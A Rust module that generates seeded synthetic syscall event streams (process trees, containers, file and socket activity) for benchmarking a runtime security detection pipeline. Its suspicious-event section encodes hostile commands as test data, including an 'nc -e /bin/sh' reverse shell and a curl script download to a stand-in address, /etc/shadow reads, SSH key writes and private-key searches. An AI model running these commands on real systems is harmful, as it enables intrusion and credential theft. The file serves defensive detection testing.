//! A seeded generator of realistic event streams: process trees on a host and in
//! containers doing what servers do (opening libraries and logs, connecting to databases,
//! spawning shells now and then), with a small share of suspicious activity.
//!
//! Used by benchmarks and by the pipeline's synthetic source. Pure computation: no I/O.

use crate::context::{
    ContainerInfo, FdInfo, FdKind, ProcessInfo, SocketRole, UserInfo, HOST_CONTAINER_ID,
};
use crate::event::Event;
use crate::flags::open;
use crate::params::{L4Proto, ParamValue, SockAddr, SockTuple};
use crate::types::EventType;
use std::net::{IpAddr, Ipv4Addr};
use std::sync::Arc;

/// SplitMix64: tiny, fast, good enough for workload shapes.
#[derive(Clone, Debug)]
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Rng {
        Rng(seed ^ 0x9E37_79B9_7F4A_7C15)
    }

    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// Uniform in `0..n` (n > 0).
    pub fn below(&mut self, n: usize) -> usize {
        (((self.next_u64() >> 32) * n as u64) >> 32) as usize
    }

    pub fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len())]
    }

    /// True with probability `per_mille`/1000.
    pub fn chance(&mut self, per_mille: u32) -> bool {
        self.below(1000) < per_mille as usize
    }
}

/// What kind of workload a synthetic process runs.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Role {
    WebServer,
    Database,
    Shell,
    Agent,
    App,
}

struct Proc {
    info: Arc<ProcessInfo>,
    container: Option<Arc<ContainerInfo>>,
    role: Role,
    /// Open files and sockets, reused by events that act on an fd.
    fds: Vec<Arc<FdInfo>>,
}

/// Tunables for [`Generator`].
#[derive(Clone, Debug)]
pub struct SynthConfig {
    pub seed: u64,
    /// Containers besides the host.
    pub containers: usize,
    /// Per-mille of events that are suspicious (shadow reads, shells in containers, ...).
    pub suspicious_per_mille: u32,
    /// Start time, epoch ns.
    pub start_ns: u64,
    /// Nanoseconds between events.
    pub step_ns: u64,
    /// Event-type mix (relative weights).
    pub mix: Mix,
    /// Which suspicious actions the suspicious share draws from (empty: all of them).
    pub attacks: Vec<Attack>,
}

/// Relative weights of the kinds of ordinary events. The default is a general-purpose
/// node; [`Mix::preset`] has a web server, a build node and a database node.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Mix {
    pub open: u32,
    pub close: u32,
    pub connect: u32,
    pub accept: u32,
    pub send_recv: u32,
    pub exec: u32,
    pub socket: u32,
    pub unlink_rename: u32,
    pub dup: u32,
    pub mkdir: u32,
    pub chmod: u32,
    pub clone: u32,
}

impl Default for Mix {
    fn default() -> Self {
        Mix {
            open: 450,
            close: 150,
            connect: 100,
            accept: 50,
            send_recv: 80,
            exec: 40,
            socket: 30,
            unlink_rename: 40,
            dup: 20,
            mkdir: 15,
            chmod: 15,
            clone: 10,
        }
    }
}

impl Mix {
    /// `general` (the default), `web` (accepts, sends, log writes), `build` (process churn,
    /// file creation and removal), `db` (file I/O on data files, few processes).
    pub fn preset(name: &str) -> Option<Mix> {
        let m = |w: [u32; 12]| Mix {
            open: w[0],
            close: w[1],
            connect: w[2],
            accept: w[3],
            send_recv: w[4],
            exec: w[5],
            socket: w[6],
            unlink_rename: w[7],
            dup: w[8],
            mkdir: w[9],
            chmod: w[10],
            clone: w[11],
        };
        Some(match name {
            "general" => Mix::default(),
            "web" => m([250, 150, 60, 200, 250, 5, 40, 10, 20, 2, 3, 10]),
            "build" => m([400, 200, 10, 2, 10, 150, 5, 90, 20, 40, 30, 43]),
            "db" => m([500, 120, 30, 60, 200, 3, 10, 40, 15, 10, 5, 7]),
            _ => return None,
        })
    }

    fn weights(&self) -> [u32; 12] {
        [
            self.open,
            self.close,
            self.connect,
            self.accept,
            self.send_recv,
            self.exec,
            self.socket,
            self.unlink_rename,
            self.dup,
            self.mkdir,
            self.chmod,
            self.clone,
        ]
    }
}

/// The suspicious actions of the stream, each aimed at rules users run.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// Opens `/etc/shadow` for reading (Sensitive File Access, Read sensitive file untrusted).
    ShadowRead,
    /// An interactive `bash -i` (shells in containers).
    InteractiveShell,
    /// `nc -e /bin/sh` (Netcat Remote Code Execution in Container).
    ReverseShell,
    /// A connect to the cloud metadata address 169.254.169.254.
    MetadataConnect,
    /// Appends to `/root/.ssh/authorized_keys`.
    SshKeyWrite,
    /// `find / -name id_rsa` (Search Private Keys or Passwords).
    KeySearch,
    /// Creates a file under `/usr/bin` (Write below binary dir).
    BinaryDirWrite,
    /// `curl` of a script from a raw address.
    ScriptDownload,
}

impl Attack {
    pub const ALL: [Attack; 8] = [
        Attack::ShadowRead,
        Attack::InteractiveShell,
        Attack::ReverseShell,
        Attack::MetadataConnect,
        Attack::SshKeyWrite,
        Attack::KeySearch,
        Attack::BinaryDirWrite,
        Attack::ScriptDownload,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Attack::ShadowRead => "shadow-read",
            Attack::InteractiveShell => "interactive-shell",
            Attack::ReverseShell => "reverse-shell",
            Attack::MetadataConnect => "metadata-connect",
            Attack::SshKeyWrite => "ssh-key-write",
            Attack::KeySearch => "key-search",
            Attack::BinaryDirWrite => "binary-dir-write",
            Attack::ScriptDownload => "script-download",
        }
    }

    pub fn from_name(name: &str) -> Option<Attack> {
        Attack::ALL.into_iter().find(|a| a.name() == name)
    }
}

impl Default for SynthConfig {
    fn default() -> Self {
        SynthConfig {
            seed: 1,
            containers: 8,
            suspicious_per_mille: 5,
            start_ns: 1_767_225_600_000_000_000,
            step_ns: 1_000,
            mix: Mix::default(),
            attacks: Vec::new(),
        }
    }
}

const IMAGES: &[(&str, &str, &str, Role)] = &[
    ("docker.io/library/nginx", "1.27", "nginx", Role::WebServer),
    (
        "docker.io/library/postgres",
        "16",
        "postgres",
        Role::Database,
    ),
    (
        "docker.io/library/redis",
        "7.2",
        "redis-server",
        Role::Database,
    ),
    ("ghcr.io/acme/checkout-api", "v3.4.1", "java", Role::App),
    ("ghcr.io/acme/frontend", "2.0.0", "node", Role::App),
    (
        "docker.io/library/python",
        "3.12-slim",
        "python3",
        Role::App,
    ),
    ("docker.io/aquasec/trivy", "0.58.0", "trivy", Role::Agent),
    ("quay.io/minio/minio", "latest", "minio", Role::App),
    ("docker.io/library/alpine", "3.20", "sh", Role::Shell),
];

const LIBS: &[&str] = &[
    "/etc/ld.so.cache",
    "/lib/x86_64-linux-gnu/libc.so.6",
    "/lib/x86_64-linux-gnu/libpthread.so.0",
    "/usr/lib/x86_64-linux-gnu/libssl.so.3",
    "/usr/lib/x86_64-linux-gnu/libcrypto.so.3",
    "/lib/x86_64-linux-gnu/libz.so.1",
];

const READS: &[&str] = &[
    "/etc/hosts",
    "/etc/resolv.conf",
    "/etc/nsswitch.conf",
    "/etc/passwd",
    "/etc/group",
    "/proc/self/stat",
    "/proc/meminfo",
    "/sys/fs/cgroup/memory.max",
    "/usr/share/zoneinfo/UTC",
    "/etc/ssl/certs/ca-certificates.crt",
    "/app/config/settings.yaml",
    "/var/lib/postgresql/data/base/16384/2619",
];

const WRITES: &[&str] = &[
    "/var/log/nginx/access.log",
    "/var/log/app/app.log",
    "/tmp/tmp.k3j2l1",
    "/var/lib/postgresql/data/pg_wal/000000010000000000000001",
    "/data/minio/.minio.sys/tmp/obj.part",
    "/run/app.pid",
];

const SHELL_CMDS: &[(&str, &[&str])] = &[
    ("ls", &["-la", "/var/log"]),
    ("cat", &["/etc/os-release"]),
    ("grep", &["-r", "error", "/var/log/app"]),
    ("ps", &["aux"]),
    ("curl", &["-s", "http://localhost:8080/healthz"]),
    ("git", &["pull"]),
    ("find", &["/tmp", "-mtime", "+7"]),
    ("id", &[]),
    ("head", &["-n", "20", "/var/log/syslog"]),
    ("sed", &["-i", "s/a/b/", "/tmp/x.conf"]),
];

/// A deterministic event stream.
pub struct Generator {
    rng: Rng,
    cfg: SynthConfig,
    procs: Vec<Proc>,
    next_pid: i64,
    num: u64,
    ts: u64,
}

fn user(uid: u32, name: &str) -> Arc<UserInfo> {
    Arc::new(UserInfo {
        uid,
        name: name.into(),
        homedir: if uid == 0 {
            "/root".into()
        } else {
            format!("/home/{name}").into()
        },
        shell: "/bin/bash".into(),
    })
}

impl Generator {
    pub fn new(cfg: SynthConfig) -> Generator {
        let mut g = Generator {
            rng: Rng::new(cfg.seed),
            ts: cfg.start_ns,
            cfg,
            procs: Vec::new(),
            next_pid: 1000,
            num: 0,
        };
        g.build_world();
        g
    }

    fn build_world(&mut self) {
        let root = user(0, "root");
        let init = Arc::new(ProcessInfo {
            tid: 1,
            pid: 1,
            vpid: 1,
            vtid: 1,
            sid: 1,
            vpgid: 1,
            name: "systemd".into(),
            exe: "/sbin/init".into(),
            exepath: "/usr/lib/systemd/systemd".into(),
            cwd: "/".into(),
            loginuid: u32::MAX,
            user: Some(root.clone()),
            container_id: HOST_CONTAINER_ID.into(),
            cap_effective: u64::MAX >> 23,
            cap_permitted: u64::MAX >> 23,
            ..Default::default()
        });
        let sshd = self.spawn_info(
            &init,
            "sshd",
            "/usr/sbin/sshd",
            &["-D"],
            root.clone(),
            HOST_CONTAINER_ID,
            0,
        );
        let admin = user(1000, "admin");
        let bash = self.spawn_info(
            &sshd,
            "bash",
            "/usr/bin/bash",
            &[],
            admin,
            HOST_CONTAINER_ID,
            34816,
        );
        self.procs.push(Proc {
            info: bash,
            container: None,
            role: Role::Shell,
            fds: Vec::new(),
        });
        let shim_parent = self.spawn_info(
            &init,
            "containerd",
            "/usr/bin/containerd",
            &[],
            root.clone(),
            HOST_CONTAINER_ID,
            0,
        );
        let agent = self.spawn_info(
            &init,
            "node_exporter",
            "/usr/bin/node_exporter",
            &[],
            root.clone(),
            HOST_CONTAINER_ID,
            0,
        );
        self.procs.push(Proc {
            info: agent,
            container: None,
            role: Role::Agent,
            fds: Vec::new(),
        });

        for c in 0..self.cfg.containers {
            let (repo, tag, main, role) = IMAGES[c % IMAGES.len()];
            let full_id: String = (0..64)
                .map(|_| char::from(b"0123456789abcdef"[self.rng.below(16)]))
                .collect();
            let short = &full_id[..12];
            let cname = format!("{}-{}", repo.rsplit('/').next().unwrap_or("app"), c);
            let container = Arc::new(ContainerInfo {
                id: short.into(),
                full_id: full_id.as_str().into(),
                name: Some(cname.as_str().into()),
                runtime: Some("containerd".into()),
                image: Some(format!("{repo}:{tag}").into()),
                image_repository: Some(repo.into()),
                image_tag: Some(tag.into()),
                privileged: Some(c % 7 == 6),
                start_ts: Some(self.ts.saturating_sub(3_600_000_000_000)),
                k8s_pod_name: Some(format!("{cname}-7d9f8b6c5-x2x4z").into()),
                k8s_ns_name: Some(if c % 3 == 0 { "prod" } else { "default" }.into()),
                ..Default::default()
            });
            let shim = self.spawn_info(
                &shim_parent,
                "containerd-shim",
                "/usr/bin/containerd-shim-runc-v2",
                &["-namespace", "k8s.io"],
                root.clone(),
                HOST_CONTAINER_ID,
                0,
            );
            let uid = if role == Role::Database { 999 } else { 0 };
            let u = if uid == 0 {
                root.clone()
            } else {
                user(uid, "postgres")
            };
            let exe = format!("/usr/bin/{main}");
            let server = self.spawn_info(&shim, main, &exe, &[], u.clone(), short, 0);
            self.procs.push(Proc {
                info: server.clone(),
                container: Some(container.clone()),
                role,
                fds: Vec::new(),
            });
            // A worker child per server, so ancestry has depth.
            let worker = self.spawn_info(&server, main, &exe, &["worker"], u, short, 0);
            self.procs.push(Proc {
                info: worker,
                container: Some(container),
                role,
                fds: Vec::new(),
            });
        }
    }

    #[allow(clippy::too_many_arguments)]
    fn spawn_info(
        &mut self,
        parent: &Arc<ProcessInfo>,
        name: &str,
        exepath: &str,
        args: &[&str],
        user: Arc<UserInfo>,
        container_id: &str,
        tty: u32,
    ) -> Arc<ProcessInfo> {
        let pid = self.next_pid;
        self.next_pid += 1 + self.rng.below(7) as i64;
        let in_container = container_id != HOST_CONTAINER_ID;
        Arc::new(ProcessInfo {
            tid: pid,
            pid,
            ptid: parent.pid,
            vpid: if in_container { (pid % 200) + 1 } else { pid },
            vtid: if in_container { (pid % 200) + 1 } else { pid },
            sid: parent.sid,
            vpgid: pid,
            name: name.chars().take(15).collect::<String>().into(),
            exe: exepath.into(),
            exepath: exepath.into(),
            args: args.iter().map(|s| s.to_string()).collect(),
            cwd: if in_container { "/" } else { "/home/admin" }.into(),
            env: [
                "PATH=/usr/local/bin:/usr/bin:/bin".into(),
                format!("HOME={}", user.homedir),
            ]
            .into(),
            tty,
            loginuid: if tty != 0 { 1000 } else { u32::MAX },
            uid: user.uid,
            gid: user.uid,
            user: Some(user),
            cap_effective: if in_container { 0xa80425fb } else { 0 },
            cap_permitted: if in_container { 0xa80425fb } else { 0 },
            start_ts: self
                .ts
                .saturating_sub(1_000_000_000 * (1 + self.rng.below(86_400) as u64)),
            container_id: container_id.into(),
            parent: Some(parent.clone()),
            ..Default::default()
        })
    }

    /// The next event of the stream.
    pub fn next_event(&mut self) -> Event {
        self.num += 1;
        self.ts += self.cfg.step_ns;
        let idx = self.rng.below(self.procs.len());
        if self.rng.chance(self.cfg.suspicious_per_mille) {
            return self.suspicious(idx);
        }
        let weights = self.cfg.mix.weights();
        let total: u32 = weights.iter().sum::<u32>().max(1);
        let mut roll = self.rng.below(total as usize) as u32;
        let mut kind = weights.len() - 1;
        for (i, w) in weights.iter().enumerate() {
            if roll < *w {
                kind = i;
                break;
            }
            roll -= w;
        }
        let ev = match kind {
            0 => self.open(idx),
            1 => self.close(idx),
            2 => self.connect(idx),
            3 => self.accept(idx),
            4 => self.send_recv(idx),
            5 => self.exec(idx, None),
            6 => self.socket(idx),
            7 => self.unlink_rename(idx),
            8 => self.dup(idx),
            9 => self.mkdir(idx),
            10 => self.chmod(idx),
            _ => self.clone_proc(idx),
        };
        self.finish(ev, idx)
    }

    fn finish(&mut self, mut ev: Event, idx: usize) -> Event {
        let p = &self.procs[idx];
        ev.num = self.num;
        ev.ts = self.ts;
        ev.cpu = (self.num % 2) as u16;
        if ev.process.is_none() {
            ev.process = Some(p.info.clone());
        }
        ev.tid = ev.process.as_ref().map_or(p.info.tid, |p| p.tid);
        ev.container = p.container.clone();
        ev
    }

    fn file_fd(&mut self, idx: usize, path: &str, flags: u64) -> (i64, Arc<FdInfo>) {
        let num = 3 + self.rng.below(60) as i64;
        let fd = Arc::new(FdInfo {
            num,
            kind: FdKind::File,
            name: path.to_string(),
            nameraw: path.to_string(),
            flags,
            ..Default::default()
        });
        let fds = &mut self.procs[idx].fds;
        if fds.len() > 16 {
            fds.remove(0);
        }
        fds.push(fd.clone());
        (num, fd)
    }

    fn open(&mut self, idx: usize) -> Event {
        let (path, flags) = match self.rng.below(10) {
            0..=3 => (*self.rng.pick(LIBS), open::O_RDONLY | open::O_CLOEXEC),
            4..=7 => (*self.rng.pick(READS), open::O_RDONLY),
            _ => (
                *self.rng.pick(WRITES),
                open::O_WRONLY | open::O_CREAT | open::O_APPEND,
            ),
        };
        self.open_path(idx, path, flags)
    }

    fn open_path(&mut self, idx: usize, path: &str, flags: u64) -> Event {
        let (num, fd) = self.file_fd(idx, path, flags);
        let etype = if self.rng.chance(900) {
            EventType::OPENAT
        } else {
            EventType::OPEN
        };
        let params = if etype == EventType::OPENAT {
            vec![
                ParamValue::Int(num),
                ParamValue::Int(-100),
                ParamValue::Str(path.into()),
                ParamValue::Uint(flags),
                ParamValue::Uint(0o644),
                ParamValue::Uint(0x803),
                ParamValue::Uint(1_000 + self.rng.below(100_000) as u64),
            ]
        } else {
            vec![
                ParamValue::Int(num),
                ParamValue::Str(path.into()),
                ParamValue::Uint(flags),
                ParamValue::Uint(0o644),
                ParamValue::Uint(0x803),
                ParamValue::Uint(1_000 + self.rng.below(100_000) as u64),
            ]
        };
        let mut ev = Event::new(etype, 0, 0, params);
        ev.fd = Some(fd);
        ev
    }

    fn close(&mut self, idx: usize) -> Event {
        let fd = self.procs[idx].fds.pop();
        let num = fd.as_ref().map(|f| f.num).unwrap_or(3);
        let mut ev = Event::new(
            EventType::CLOSE,
            0,
            0,
            vec![ParamValue::Int(0), ParamValue::Int(num)],
        );
        ev.fd = fd;
        ev
    }

    fn inet_fd(&mut self, idx: usize, tuple: SockTuple, role: SocketRole) -> (i64, Arc<FdInfo>) {
        let num = 3 + self.rng.below(60) as i64;
        let fd = Arc::new(FdInfo {
            num,
            kind: FdKind::Ipv4,
            name: tuple.to_string(),
            nameraw: String::new(),
            l4proto: Some(match &tuple {
                SockTuple::Inet { proto, .. } => *proto,
                SockTuple::Unix { .. } => L4Proto::Unknown,
            }),
            tuple: Some(tuple),
            role,
            connected: true,
            ..Default::default()
        });
        self.procs[idx].fds.push(fd.clone());
        (num, fd)
    }

    fn connect(&mut self, idx: usize) -> Event {
        let (dip, dport) = match self.procs[idx].role {
            Role::App => *self.rng.pick(&[
                ([10, 0, 3, 17], 5432),
                ([10, 0, 4, 2], 6379),
                ([10, 96, 0, 1], 443),
            ]),
            Role::WebServer => ([10, 0, 5, 9], 8080),
            Role::Agent => ([10, 96, 0, 1], 443),
            _ => ([93, 184, 216, 34], 443),
        };
        let dip = IpAddr::V4(Ipv4Addr::from(dip));
        self.connect_to(idx, dip, dport, L4Proto::Tcp)
    }

    fn connect_to(&mut self, idx: usize, dip: IpAddr, dport: u16, proto: L4Proto) -> Event {
        let sport = 32768 + self.rng.below(28000) as u16;
        let tuple = SockTuple::Inet {
            proto,
            sip: IpAddr::V4(Ipv4Addr::new(10, 1, 2, 3)),
            sport,
            dip,
            dport,
        };
        let (num, fd) = self.inet_fd(idx, tuple.clone(), SocketRole::Client);
        let mut ev = Event::new(
            EventType::CONNECT,
            0,
            0,
            vec![
                ParamValue::Int(0),
                ParamValue::Tuple(tuple),
                ParamValue::Int(num),
                ParamValue::Addr(SockAddr::Inet {
                    ip: dip,
                    port: dport,
                }),
            ],
        );
        ev.fd = Some(fd);
        ev
    }

    fn accept(&mut self, idx: usize) -> Event {
        let port = match self.procs[idx].role {
            Role::Database => 5432,
            Role::WebServer => 80,
            _ => 8080,
        };
        let cip = IpAddr::V4(Ipv4Addr::new(
            10,
            0,
            self.rng.below(8) as u8,
            self.rng.below(250) as u8 + 1,
        ));
        let tuple = SockTuple::Inet {
            proto: L4Proto::Tcp,
            sip: cip,
            sport: 40000 + self.rng.below(20000) as u16,
            dip: IpAddr::V4(Ipv4Addr::new(10, 1, 2, 3)),
            dport: port,
        };
        let (num, fd) = self.inet_fd(idx, tuple.clone(), SocketRole::Server);
        let etype = if self.rng.chance(500) {
            EventType::ACCEPT4
        } else {
            EventType::ACCEPT
        };
        let mut params = vec![
            ParamValue::Int(num),
            ParamValue::Tuple(tuple),
            ParamValue::Uint(0),
            ParamValue::Uint(0),
            ParamValue::Uint(128),
        ];
        if etype == EventType::ACCEPT4 {
            params.push(ParamValue::Uint(open::O_CLOEXEC));
        }
        let mut ev = Event::new(etype, 0, 0, params);
        ev.fd = Some(fd);
        ev
    }

    fn send_recv(&mut self, idx: usize) -> Event {
        let fd = self.procs[idx]
            .fds
            .iter()
            .rev()
            .find(|f| f.kind.is_socket())
            .cloned();
        let num = fd.as_ref().map(|f| f.num).unwrap_or(5);
        let tuple = fd.as_ref().and_then(|f| f.tuple.clone());
        let size = 64 + self.rng.below(1400) as u64;
        let (etype, params) = if self.rng.chance(500) {
            (
                EventType::SENDTO,
                vec![
                    ParamValue::Int(size as i64),
                    ParamValue::Bytes(b"GET / HTTP/1.1\r\n".to_vec()),
                    ParamValue::Int(num),
                    ParamValue::Uint(size),
                    tuple.map(ParamValue::Tuple).unwrap_or_default(),
                ],
            )
        } else {
            (
                EventType::RECVFROM,
                vec![
                    ParamValue::Int(size as i64),
                    ParamValue::Bytes(b"HTTP/1.1 200 OK\r\n".to_vec()),
                    tuple.map(ParamValue::Tuple).unwrap_or_default(),
                    ParamValue::Int(num),
                    ParamValue::Uint(size),
                ],
            )
        };
        let mut ev = Event::new(etype, 0, 0, params);
        ev.fd = fd;
        ev
    }

    /// An exec in the process's context: the process image is replaced by `cmd`.
    fn exec(&mut self, idx: usize, cmd: Option<(&str, &[&str])>) -> Event {
        let (name, args) = cmd.unwrap_or_else(|| *self.rng.pick(SHELL_CMDS));
        let parent = self.procs[idx].info.clone();
        let user = parent.user.clone().unwrap_or_else(|| user(0, "root"));
        let exepath = format!("/usr/bin/{name}");
        let child = self.spawn_info(
            &parent,
            name,
            &exepath,
            args,
            user,
            &parent.container_id.clone(),
            parent.tty,
        );
        let mut argv = vec![name.to_string()];
        argv.extend(args.iter().map(|s| s.to_string()));
        let params = vec![
            ParamValue::Int(0),
            ParamValue::Str(exepath.clone()),
            ParamValue::StrList(args.iter().map(|s| s.to_string()).collect()),
            ParamValue::Int(child.tid),
            ParamValue::Int(child.pid),
            ParamValue::Int(parent.pid),
            ParamValue::Str(child.cwd.to_string()),
            ParamValue::Str(name.chars().take(15).collect()),
            ParamValue::StrList([].into()),
            ParamValue::StrList(child.env.clone()),
            ParamValue::Uint(child.tty as u64),
            ParamValue::Int(child.vpgid),
            ParamValue::Uint(child.loginuid as u64),
            ParamValue::Uint(0),
        ];
        let mut ev = Event::new(EventType::EXECVE, 0, 0, params);
        ev.process = Some(child);
        ev
    }

    fn socket(&mut self, _idx: usize) -> Event {
        let num = 3 + self.rng.below(60) as i64;
        Event::new(
            EventType::SOCKET,
            0,
            0,
            vec![
                ParamValue::Int(num),
                ParamValue::Uint(2),
                ParamValue::Uint(1),
                ParamValue::Uint(6),
                ParamValue::Uint(0),
            ],
        )
    }

    fn unlink_rename(&mut self, idx: usize) -> Event {
        let path = *self.rng.pick(WRITES);
        let _ = idx;
        if self.rng.chance(500) {
            Event::new(
                EventType::UNLINKAT,
                0,
                0,
                vec![
                    ParamValue::Int(0),
                    ParamValue::Int(-100),
                    ParamValue::Str(path.into()),
                    ParamValue::Uint(0),
                ],
            )
        } else {
            Event::new(
                EventType::RENAMEAT2,
                0,
                0,
                vec![
                    ParamValue::Int(0),
                    ParamValue::Int(-100),
                    ParamValue::Str(format!("{path}.tmp")),
                    ParamValue::Int(-100),
                    ParamValue::Str(path.into()),
                    ParamValue::Uint(0),
                ],
            )
        }
    }

    fn dup(&mut self, idx: usize) -> Event {
        let fd = self.procs[idx].fds.last().cloned();
        let old = fd.as_ref().map(|f| f.num).unwrap_or(3);
        let mut ev = Event::new(
            EventType::DUP2,
            0,
            0,
            vec![ParamValue::Int(1), ParamValue::Int(old), ParamValue::Int(1)],
        );
        ev.fd = fd;
        ev
    }

    fn mkdir(&mut self, _idx: usize) -> Event {
        let n = self.rng.below(1000);
        Event::new(
            EventType::MKDIRAT,
            0,
            0,
            vec![
                ParamValue::Int(0),
                ParamValue::Int(-100),
                ParamValue::Str(format!("/tmp/build-{n}")),
                ParamValue::Uint(0o755),
            ],
        )
    }

    fn chmod(&mut self, _idx: usize) -> Event {
        Event::new(
            EventType::FCHMODAT,
            0,
            0,
            vec![
                ParamValue::Int(0),
                ParamValue::Int(-100),
                ParamValue::Str("/tmp/run.sh".into()),
                ParamValue::Uint(0o755),
            ],
        )
    }

    fn clone_proc(&mut self, idx: usize) -> Event {
        let parent = self.procs[idx].info.clone();
        let child = self.next_pid;
        Event::new(
            EventType::CLONE,
            0,
            0,
            vec![
                ParamValue::Int(child),
                ParamValue::Str(parent.exe.to_string()),
                ParamValue::StrList(parent.args.clone()),
                ParamValue::Int(parent.tid),
                ParamValue::Int(parent.pid),
                ParamValue::Int(parent.ptid),
                ParamValue::Str(parent.cwd.to_string()),
                ParamValue::Str(parent.name.to_string()),
                ParamValue::Uint(0x01200011),
            ],
        )
    }

    fn suspicious(&mut self, idx: usize) -> Event {
        let attack = if self.cfg.attacks.is_empty() {
            Attack::ALL[self.rng.below(Attack::ALL.len())]
        } else {
            self.cfg.attacks[self.rng.below(self.cfg.attacks.len())]
        };
        let ev = match attack {
            Attack::ShadowRead => self.open_path(idx, "/etc/shadow", open::O_RDONLY),
            Attack::InteractiveShell => self.exec(idx, Some(("bash", &["-i"]))),
            Attack::ReverseShell => {
                self.exec(idx, Some(("nc", &["-e", "/bin/sh", "10.9.9.9", "4444"])))
            }
            Attack::MetadataConnect => self.connect_to(
                idx,
                IpAddr::V4(Ipv4Addr::new(169, 254, 169, 254)),
                80,
                L4Proto::Tcp,
            ),
            Attack::SshKeyWrite => self.open_path(
                idx,
                "/root/.ssh/authorized_keys",
                open::O_WRONLY | open::O_APPEND,
            ),
            Attack::KeySearch => self.exec(idx, Some(("find", &["/", "-name", "id_rsa"]))),
            Attack::BinaryDirWrite => {
                self.open_path(idx, "/usr/bin/evil", open::O_WRONLY | open::O_CREAT)
            }
            Attack::ScriptDownload => {
                self.exec(idx, Some(("curl", &["-fsSL", "http://10.9.9.9/x.sh"])))
            }
        };
        self.finish(ev, idx)
    }
}

impl Iterator for Generator {
    type Item = Event;

    fn next(&mut self) -> Option<Event> {
        Some(self.next_event())
    }
}

/// `ev` with its process given `depth` recorded ancestors (copies of it, pids 1 up), for
/// tests of deep nesting. Building and dropping a deep chain recurses: use a big stack.
pub fn with_ancestors(mut ev: Event, depth: usize) -> Event {
    let Some(base) = ev.process.as_deref().cloned() else {
        return ev;
    };
    let mut chain: Option<Arc<ProcessInfo>> = None;
    for pid in 0..=depth {
        let mut p = base.clone();
        p.pid = pid as i64 + 1;
        p.parent = chain.take();
        chain = Some(Arc::new(p));
    }
    ev.process = chain;
    ev
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deterministic_for_a_seed() {
        let a: Vec<_> = Generator::new(SynthConfig::default())
            .take(500)
            .map(|e| (e.etype, e.tid))
            .collect();
        let b: Vec<_> = Generator::new(SynthConfig::default())
            .take(500)
            .map(|e| (e.etype, e.tid))
            .collect();
        assert_eq!(a, b);
        let c: Vec<_> = Generator::new(SynthConfig {
            seed: 2,
            ..Default::default()
        })
        .take(500)
        .map(|e| (e.etype, e.tid))
        .collect();
        assert_ne!(a, c);
    }

    #[test]
    fn events_are_well_formed() {
        let mut types = std::collections::HashSet::new();
        for ev in Generator::new(SynthConfig::default()).take(20_000) {
            assert!(ev.etype.is_modelled());
            assert!(ev.params.len() <= ev.etype.params().len(), "{:?}", ev.etype);
            let p = ev.process.as_ref().expect("every event has a process");
            assert_eq!(p.tid, ev.tid);
            assert_eq!(
                ev.container.is_some(),
                &*p.container_id != HOST_CONTAINER_ID
            );
            types.insert(ev.etype);
        }
        assert!(types.len() >= 15, "a realistic mix, got {}", types.len());
    }
}
